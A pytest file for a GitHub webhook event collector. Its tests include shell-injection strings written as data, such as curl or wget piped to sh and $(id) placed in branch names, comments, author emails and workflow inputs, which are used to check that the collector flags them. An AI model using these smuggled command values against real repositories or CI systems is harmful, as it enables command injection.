"""GitHub's webhooks become events, each delivery one."""

from __future__ import annotations

import json

import pytest

from collector.event import ActorType, Kind
from tests.collector.samples import AT, JSON, commit, parse, payload, push, repository, webhook


def test_ids_and_time() -> None:
    """The delivery's GUID is id and ref; without a time of its own, an event counts when it was received."""
    event = webhook("push", push())
    assert (event.id, event.ref, event.observed_at) == ("github.webhook:guid-of-push", "guid-of-push", AT + 5)


def test_a_push_is_one_event() -> None:
    """A push is one event whatever number of commits it has; what they touch are its facts."""
    event = webhook("push", push(commit(modified=["a.py", ".github/workflows/ci.yml"]), commit(added=["Makefile"])))
    assert (event.kind, event.action, event.numbers["commits"], event.utc_offset) == (Kind.CHANGE, "push", 2.0, 780)
    assert event.facts["zone"] == ["build", "source", "ci"]
    assert event.facts["new_path_zone"] == ["build"]
    assert (event.facts["branch_class"], event.facts["forced"], event.facts["ref_kind"]) == ("default", "no", "branch")


@pytest.mark.parametrize(
    ("item", "match"),
    [
        (commit(), ["author pushed"]),
        (commit(by="eve"), ["another's commit"]),
        (commit(by="dependabot[bot]"), ["bot-like author, pushed by a user"]),
        (
            commit(author={"name": "Ghost", "email": "g@elsewhere.example"}),
            ["author without an account", "author and committer differ"],
        ),
    ],
)
def test_who_wrote_what_was_pushed(item: JSON, match: list[str]) -> None:
    """A push tells whether its author pushed it, another did, or somebody posed as a bot."""
    assert webhook("push", push(item)).facts["author_match"] == match


def test_a_moved_tag() -> None:
    """A tag that existed before is told from a new one."""
    moved = webhook("push", push(ref="refs/tags/v1"))
    new = webhook("push", push(ref="refs/tags/v1", before="0" * 40))
    assert (moved.facts["ref_kind"], new.facts["ref_kind"], moved.facts["branch_class"]) == ("tag moved", "tag", "tag")


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("push", push(ref="refs/heads/a$(curl${IFS}x.example)")),
        ("create", payload(ref="a;id", ref_type="branch")),
        ("pull_request", payload(action="opened", number=1, pull_request={"title": "x; id", "head": {}})),
        ("issue_comment", payload(action="created", issue={"title": "x"}, comment={"body": "; wget x.example | sh"})),
    ],
)
def test_text_written_to_hurt(name: str, body: JSON) -> None:
    """Branch names, titles and comments that would run in a shell are told."""
    assert "a program to run" in webhook(name, body).facts["text_oddity"]


def test_long_texts_are_read_to_their_end() -> None:
    """What would run in a shell is found far down a text, and a text beyond all measure is told."""
    comment = payload(action="created", issue={"title": "x"}, comment={"body": "word " * 5000 + "; wget x.example"})
    assert webhook("issue_comment", comment).facts["text_oddity"] == ["a program to run", "very long"]


def _run(**fields: object) -> JSON:
    run = {
        "id": 4711,
        "name": "CI",
        "path": ".github/workflows/ci.yml",
        "event": "pull_request_target",
        "head_branch": "patch",
        "head_sha": "c" * 40,
        "conclusion": "success",
        "run_started_at": "2026-03-01T10:00:00Z",
        "updated_at": "2026-03-01T10:02:00Z",
        "head_repository": {"full_name": "eve/pay"},
        "run_attempt": 2,
    }
    return payload(action="completed", workflow_run={**run, **fields})


def test_a_run() -> None:
    """A run tells its workflow's file, its trigger, whose code it ran, how it ended and how long it took."""
    event = webhook("workflow_run", _run())
    assert (event.action, str(event.entity)) == ("workflow_run.completed", "workflow:acme/pay:.github/workflows/ci.yml")
    assert (event.facts["trigger"], event.facts["head_fork"], event.facts["conclusion"]) == (
        "pull_request_target",
        "yes",
        "success",
    )
    assert (event.numbers["duration_s"], event.observed_at, event.links["run"]) == (120.0, AT + 120, "4711")


def test_a_job() -> None:
    """A job tells its runner, its steps, how long it waited and how long it ran."""
    job = {
        "run_id": 4711,
        "name": "build",
        "workflow_name": "CI",
        "labels": ["self-hosted", "gpu"],
        "runner_name": "forge-1",
        "runner_group_name": "Default",
        "created_at": "2026-03-01T10:00:00Z",
        "started_at": "2026-03-01T10:00:30Z",
        "completed_at": "2026-03-01T10:01:30Z",
        "steps": [{"name": "Checkout"}, {"name": "Test"}],
    }
    event = webhook("workflow_job", payload(action="completed", workflow_job=job))
    assert str(event.entity) == "job:acme/pay:CI/build"
    assert (event.facts["step"], event.facts["runner_label"]) == (["Checkout", "Test"], ["self-hosted", "gpu"])
    assert (event.facts["hosted"], event.links["runner"]) == ("no", "forge-1")
    assert (event.numbers["queue_s"], event.numbers["duration_s"]) == (30.0, 60.0)


def test_a_pull_request() -> None:
    """A pull request tells from where it comes, how large it is and whether its author acts."""
    pull = {
        "number": 12,
        "title": "Add 3 taxes",
        "user": {"login": "eve"},
        "author_association": "FIRST_TIME_CONTRIBUTOR",
        "head": {"ref": "patch", "sha": "c" * 40, "repo": {"full_name": "eve/pay"}},
        "merged": True,
        "changed_files": 3,
        "closed_at": "2026-03-01T10:00:03Z",
    }
    event = webhook("pull_request", payload(action="closed", pull_request=pull))
    assert (event.links["pull_request"], event.links["actor_login"]) == ("acme/pay#12", "eve")
    assert (event.facts["head_fork"], event.facts["merged"], event.facts["title_shape"]) == (
        "yes",
        "yes",
        "add # taxes",
    )
    assert (event.facts["author_match"], event.numbers["changed_files"], event.observed_at) == (
        "another's",
        3.0,
        AT + 3,
    )


@pytest.mark.parametrize(
    ("name", "body", "facts"),
    [
        ("deploy_key", {"action": "created", "key": {"id": 1, "read_only": False, "title": "ci"}}, {"read_only": "no"}),
        (
            "branch_protection_rule",
            {
                "action": "edited",
                "rule": {"name": "main", "admin_enforced": False},
                "changes": {"admin_enforced": {"from": True}},
            },
            {"rule": ["admin_enforced=false"], "changed": ["admin_enforced"]},
        ),
        (
            "member",
            {"action": "added", "member": {"login": "eve"}, "changes": {"permission": {"to": "admin"}}},
            {"permission": "admin"},
        ),
        (
            "repository",
            {"action": "publicized", "repository": repository(visibility="public")},
            {"previous_visibility": "private"},
        ),
        (
            "release",
            {"action": "published", "release": {"tag_name": "v1.20.3", "assets": [{"name": "pay-1.2.tgz", "size": 9}]}},
            {"version_shape": "vN.NN.N", "asset": ["pay-#.tgz"]},
        ),
        (
            "registry_package",
            {"action": "published", "registry_package": {"name": "pay", "package_version": {"version": "9.9.9"}}},
            {"version_shape": "N.N.N"},
        ),
        (
            "meta",
            {"action": "deleted", "hook": {"events": ["push"], "config": {"url": "https://in.example"}}},
            {"x.events": ["push"]},
        ),
        ("something_new", {"action": "begun", "thing": {"state": "open", "id": 4}}, {"x.thing.state": "open"}),
    ],
)
def test_other_payloads(name: str, body: JSON, facts: JSON) -> None:
    """Each kind of payload tells its own facts; a kind nobody knows is a plain event."""
    event = webhook(name, payload(**body))
    assert event.action == f"{name}.{body['action']}"
    assert facts.items() <= event.facts.items()


@pytest.mark.parametrize(
    ("sender", "kind"),
    [
        ({"login": "mona", "type": "User"}, ActorType.USER),
        ({"login": "ci[bot]", "type": "Bot"}, ActorType.BOT),
        ({}, ActorType.UNKNOWN),
    ],
)
def test_senders(sender: JSON, kind: ActorType) -> None:
    """The sender is the actor; people and bots are told apart."""
    assert webhook("watch", payload(action="started", sender=sender)).actor.type is kind


def test_form_encoded_deliveries() -> None:
    """A delivery sent as a form field is the delivery."""
    headers = {"X-GitHub-Event": "push", "X-GitHub-Delivery": "guid-of-push"}
    assert parse("github.webhook", {"payload": json.dumps(push())}, headers) == webhook("push", push())


def test_without_headers() -> None:
    """A payload whose headers were lost is recognised by what it holds, with an id from its content."""
    event = parse("github.webhook", _run())
    assert event.action == "workflow_run.completed"
    assert event.id == parse("github.webhook", dict(reversed(_run().items()))).id


def test_a_deployment() -> None:
    """A deployment tells environment, commit, branch, state and who asked for it."""
    body = payload(
        action="created",
        deployment={"sha": "a" * 40, "ref": "main", "environment": "production", "creator": {"login": "hubot"}},
        deployment_status={"state": "failure", "updated_at": "2026-03-01T10:00:00Z"},
        workflow_run={"id": 4711},
    )
    event = webhook("deployment_status", body)
    assert (event.kind, event.links["sha"], event.links["run"]) == (Kind.RUN, "a" * 40, "4711")
    assert (event.links["branch"], event.links["actor_login"], event.observed_at) == ("main", "hubot", AT)
    assert (event.facts["x.environment"], event.facts["conclusion"]) == ("production", "failure")


def test_a_workflow_started_by_hand() -> None:
    """A start by hand names the workflow and its inputs, and tells what is odd in them."""
    body = payload(workflow=".github/workflows/ship.yml", ref="refs/heads/main", inputs={"tag": "v1;curl x.example|sh"})
    event = webhook("workflow_dispatch", body)
    assert (event.links["workflow"], event.links["branch"]) == ("acme/pay:.github/workflows/ship.yml", "main")
    assert (event.facts["x.input"], event.facts["text_oddity"]) == (["tag"], ["a program to run"])


def test_a_status() -> None:
    """A commit's status names commit, check, state and where it points."""
    body = payload(sha="a" * 40, context="ci/pay", state="error", target_url="https://ci.example/1")
    event = webhook("status", body)
    assert (event.links["sha"], event.links["job"]) == ("a" * 40, "acme/pay:status/ci/pay")
    assert (event.facts["conclusion"], event.facts["x.target_host"]) == ("error", "ci.example")


def test_a_token_that_asks_for_access() -> None:
    """A request for a token's access names the token, whose it is and what it may do."""
    asked = {
        "token_id": 77,
        "owner": {"login": "lisa"},
        "repository_selection": "all",
        "permissions_added": {"repository": {"contents": "write"}, "organization": {"members": "read"}},
    }
    event = webhook("personal_access_token_request", payload(action="created", personal_access_token_request=asked))
    assert (event.links["target"], event.links["token"]) == ("lisa", "id 77")
    assert event.facts["permission"] == ["repository:contents=write", "organization:members=read"]


def test_analysis_switched_off() -> None:
    """A change of what GitHub analyses tells what it is now."""
    body = payload(changes={"from": {"security_and_analysis": {"secret_scanning": {"status": "enabled"}}}})
    body["repository"]["security_and_analysis"] = {"secret_scanning": {"status": "disabled"}}
    assert webhook("security_and_analysis", body).facts["rule"] == ["secret_scanning=disabled"]


@pytest.mark.parametrize(
    ("name", "body", "oddity"),
    [
        ("issues", {"issue": {"number": 1, "title": "Build fails $(id) on main"}}, "command substitution"),
        ("pull_request", {"pull_request": {"number": 1, "title": "Config eval($x)"}}, "a call of eval"),
        ("gollum", {"pages": [{"page_name": "index`wget x.example`", "title": "Index"}]}, "command substitution"),
        (
            "push",
            {"commits": [commit(author={"name": "x", "email": "$(id)@x.example"})]},
            "author: command substitution",
        ),
        ("push", {"commits": [commit("eval($payload)")]}, "a call of eval"),
    ],
)
def test_commands_where_none_belongs(name: str, body: JSON, oddity: str) -> None:
    """A command in a title, the name of a page, or an author is odd, wherever an outsider may write one."""
    assert oddity in webhook(name, payload(action="opened", ref="refs/heads/main", **body)).facts["text_oddity"]


def test_ordinary_authors_and_titles_are_not_odd() -> None:
    """An apostrophe in a name, and code in a title, are what people write."""
    author = {"name": "Siobhan O'Brien", "email": "o'brien@acme.example"}
    assert "text_oddity" not in webhook("push", push(commit("Fix `eval` of $PATH", author=author))).facts


def test_fork_that_is_gone() -> None:
    """A run whose repository does not exist any more is told from one of the repository itself."""
    run = {"id": 1, "path": ".github/workflows/ci.yml", "head_repository": None}
    assert webhook("workflow_run", payload(action="requested", workflow_run=run)).facts["head_fork"] == "gone"


def test_a_hook_that_was_deleted_is_linked_by_its_number() -> None:
    """The last that a hook tells: what its silence is told with has the same link."""
    body = {"action": "deleted", "hook_id": 4711, "hook": {"config": {"url": "https://in.example/hooks"}}}
    assert webhook("meta", body).links["hook"] == "4711"
